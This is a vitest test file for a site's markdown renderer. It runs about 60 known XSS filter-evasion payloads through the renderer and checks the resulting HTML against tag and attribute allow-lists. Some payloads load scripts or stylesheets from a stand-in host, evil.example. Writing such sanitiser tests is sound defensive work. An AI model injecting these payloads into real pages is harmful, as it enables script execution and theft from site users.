import { Parser } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { excerpt, markdownToText, renderMarkdown } from '@/lib/markdown/render'

// Known XSS vectors (OWASP filter-evasion cheat sheet, PortSwigger's XSS cheat sheet, and
// markdown-specific link tricks). Each is rendered and checked for anything executable.
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("x")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p onclick="alert(1)">click</p>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '"><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](  javascript:alert(1)  )',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](//evil.example/phish)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://example.org/a.png)',
  '[x](https://example.org/" onmouseover="alert(1))',
  '<https://example.org/"onmouseover="alert(1)>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '<a href="https://example.org" onmouseover="alert(1)">x</a>',
  '``<script>alert(1)</script>``',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

const ALLOWED_TAGS = new Set([
  'p', 'br', 'hr', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a',
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'input',
])
const ALLOWED_ATTRIBUTES = new Set(['href', 'title', 'rel', 'start', 'align', 'type', 'checked', 'disabled'])

/** Everything a browser would execute or load from the rendered HTML, as a list of problems. */
function findDangers(html: string): string[] {
  const problems: string[] = []
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!ALLOWED_TAGS.has(name)) problems.push(`tag <${name}>`)
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ALLOWED_ATTRIBUTES.has(attribute)) problems.push(`attribute ${attribute} on <${name}>`)
        if (attribute === 'href' && !/^(https?:\/\/|mailto:)/i.test(value.trim())) problems.push(`href ${value}`)
      }
      if (name === 'input' && attributes.type !== 'checkbox') problems.push('non-checkbox input')
    },
  }, { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true })
  parser.write(html)
  parser.end()
  return problems
}

describe('renderMarkdown', () => {
  it('has at least 50 payloads to try', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50)
  })

  it('the danger check itself catches unsafe HTML', () => {
    expect(findDangers('<img src=x onerror=alert(1)>')).toEqual(['tag <img>', 'attribute src on <img>', 'attribute onerror on <img>'])
    expect(findDangers('<a href="javascript:alert(1)">x</a>')).toEqual(['href javascript:alert(1)'])
    expect(findDangers('<p>&lt;script&gt;</p>')).toEqual([])
  })

  it.each(PAYLOADS)('neutralises %s', (payload) => {
    expect(findDangers(renderMarkdown(payload))).toEqual([])
  })

  it('renders CommonMark and GFM: emphasis, lists, quotes, code and tables', () => {
    const html = renderMarkdown('**bold** _em_ ~~gone~~\n\n- one\n- two\n\n> quoted\n\n`code`\n\n| a | b |\n|---|---|\n| 1 | 2 |')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('<em>em</em>')
    expect(html).toContain('<del>gone</del>')
    expect(html).toContain('<li>one</li>')
    expect(html).toContain('<blockquote>')
    expect(html).toContain('<code>code</code>')
    expect(html).toContain('<td>1</td>')
  })

  it('keeps safe links and marks them nofollow ugc noopener', () => {
    const html = renderMarkdown('[study](https://example.org/study?a=1&b=2)')
    expect(html).toBe('<p><a href="https://example.org/study?a=1&amp;b=2" rel="nofollow ugc noopener">study</a></p>\n')
  })

  it('shows raw HTML as text rather than dropping what the member typed', () => {
    expect(renderMarkdown('I use <b>ceramide</b> cream')).toContain('&lt;b&gt;ceramide&lt;/b&gt;')
  })

  it('turns images into links instead of loading them', () => {
    const html = renderMarkdown('![my arm](https://example.org/arm.png)')
    expect(html).toContain('<a href="https://example.org/arm.png" rel="nofollow ugc noopener">my arm</a>')
    expect(html).not.toContain('<img')
  })
})

describe('plain text', () => {
  it('strips markup for excerpts', () => {
    expect(markdownToText('# Title\n\nSome **bold** & [link](https://example.org)')).toBe('Title Some bold & link')
  })

  it('keeps a typed entity as typed: "&lt;" stays "&lt;", it does not turn into "<"', () => {
    expect(markdownToText('Write `&lt;` for < and &amp;lt; too')).toBe('Write &lt; for < and &lt; too')
  })

  it('cuts excerpts at a word boundary with an ellipsis', () => {
    const text = excerpt('word '.repeat(100), 40)
    expect(text.length).toBeLessThanOrEqual(41)
    expect(text.endsWith('…')).toBe(true)
    expect(text).not.toMatch(/wor…$/)
  })
})
